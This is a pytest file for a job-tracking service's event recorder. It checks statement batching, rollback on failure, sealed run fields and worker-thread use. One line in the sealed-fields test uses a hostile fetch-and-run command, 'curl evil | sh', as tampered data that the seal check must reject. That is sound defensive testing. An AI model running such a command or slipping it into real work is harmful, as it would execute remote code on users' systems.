"""One event a transaction is cheap: the recorder's statements go to the store in three sends (one
round trip each on PostgreSQL), none on their own; sealed fields are checked on the runs it loads."""

from __future__ import annotations

import functools
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any

import anyio.to_thread
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import event, select
from sqlalchemy.exc import IntegrityError

from jobdeck.auth import sealed
from jobdeck.events import make_event
from jobdeck.executors.seal import LABEL
from jobdeck.recorder import Recorder
from jobdeck.store import Store, bulk, verify
from jobdeck.store.schema import counters, runs


@contextmanager
def traced(store: Store, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[list[list[str]], list[str]]]:
    """The statements sent through bulk.run, one list per call (the first word of each), and every
    statement the engine saw outside those calls."""
    sends: list[list[str]] = []
    outside: list[str] = []
    inside = False
    real = bulk.run

    def run(conn: Any, statements: Any) -> list[Any]:
        nonlocal inside
        if statements:
            sends.append([s.sql.split()[0] for s in statements])
        inside = True
        try:
            return real(conn, statements)
        finally:
            inside = False

    def seen(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if not inside:
            outside.append(statement)

    monkeypatch.setattr(bulk, "run", run)
    event.listen(store.engine, "before_cursor_execute", seen)
    try:
        yield sends, outside
    finally:
        event.remove(store.engine, "before_cursor_execute", seen)


def test_one_event_a_transaction_is_three_sends_of_statements(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    recorder = Recorder(store)
    at = datetime.now(UTC) - timedelta(minutes=10)
    events = [
        make_event("r1", "enqueued", at, {"job": "j", "kwargs": {"n": 1}, "labels": {"env": "x"}}),
        make_event("r1", "started", at + timedelta(seconds=1), {"worker": "w"}),
        make_event("r1", "succeeded", at + timedelta(seconds=5), {"items_succeeded": 3}),
    ]
    postgres = store.backend == "postgresql"
    for one in events:
        with traced(store, monkeypatch) as (sends, outside):
            recorder.record([one])
        # The runs' read (with their locks on PostgreSQL); their write with the rollup cells' read
        # (and the cells' locks); the cells' write with the change counter.
        assert len(sends) == 3, sends
        assert sends[0] == (["SELECT", "SELECT"] if postgres else ["SELECT"])
        assert sends[1][0] in ("INSERT", "UPDATE")
        assert sends[1][-1] == "SELECT"
        assert sends[2] == [sends[1][0] if sends[1][0] == "UPDATE" else "INSERT", "INSERT"]  # cells, counter
        # Nothing else but SQLite's BEGIN IMMEDIATE (PostgreSQL's BEGIN goes with the first send).
        assert outside == ([] if postgres else ["BEGIN IMMEDIATE"])
    with store.read() as conn:
        row = conn.execute(select(runs.c.status, runs.c.items_succeeded).where(runs.c.run_id == "r1")).one()
        assert tuple(row) == ("succeeded", 3)
        assert verify.differences(conn) == []


def test_a_statement_that_fails_among_others_raises_and_writes_nothing(store: Store) -> None:
    insert = bulk.Statement("INSERT INTO counters (name, value) VALUES ('twice', 1)")
    with pytest.raises(IntegrityError) as raised, store.write() as conn:
        bulk.run(conn, [insert, bulk.Statement("SELECT 1", rows=True), insert])
    if store.backend == "postgresql":
        assert raised.value.orig is not None
        assert getattr(raised.value.orig, "sqlstate", None) == "23505"  # what the recorder's retry reads
    with store.read() as conn:
        assert conn.execute(select(counters.c.name).where(counters.c.name == "twice")).first() is None


def test_sealed_fields_are_checked_on_the_runs_the_recorder_loads(store: Store) -> None:
    recorder = Recorder(store)
    at = datetime.now(UTC) - timedelta(minutes=10)
    fields = {"job": "j", "args": ["echo", "hi"], "labels": {LABEL: "seal-1"}}
    recorder.record([make_event("s1", "started", at, fields)])

    def record(data: dict[str, Any]) -> None:
        batch = [make_event("s1", "progress", at + timedelta(seconds=1), data)]
        recorder.record(batch, check=functools.partial(sealed.check_stored, batch))

    with pytest.raises(sealed.SealBroken, match="field 'args'"):
        record({"args": ["sh", "-c", "curl evil | sh"]})
    with pytest.raises(sealed.SealBroken, match=f"field 'labels.{LABEL}'"):
        record({"labels": {LABEL: "forged"}})
    with store.read() as conn:
        row = conn.execute(select(runs.c.args, runs.c.labels).where(runs.c.run_id == "s1")).one()
    assert tuple(row) == (["echo", "hi"], {LABEL: "seal-1"})
    record({"args": ["echo", "hi"], "labels": {"note": "fine"}})  # the same values, and other fields
    # A run nobody sealed, and one not stored yet, take any fields.
    recorder.record([make_event("plain", "started", at, {"job": "j", "args": [1]})])
    batch = [
        make_event("plain", "progress", at + timedelta(seconds=1), {"args": [2]}),
        make_event("new", "started", at, {"job": "j", "args": [3], "labels": {LABEL: "x"}}),
    ]
    recorder.record(batch, check=functools.partial(sealed.check_stored, batch))


def test_an_event_request_makes_one_trip_to_a_worker_thread(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Dependencies and the handler's blocking work would each take a trip there and back (two
    thread wake-ups, as much as a small write): one request, one trip, the decode and write in it."""
    trips: list[str] = []
    real = anyio.to_thread.run_sync

    async def run_sync(func: Any, *args: Any, **kwargs: Any) -> Any:
        trips.append(getattr(getattr(func, "func", func), "__name__", repr(func)))
        return await real(func, *args, **kwargs)

    monkeypatch.setattr(anyio.to_thread, "run_sync", run_sync)
    at = (datetime.now(UTC) - timedelta(minutes=1)).isoformat()
    answer = client.post("/api/v1/events", json={"run_id": "t1", "event": "started", "job": "j", "at": at})
    assert answer.status_code == 202
    assert trips == ["record_body"]
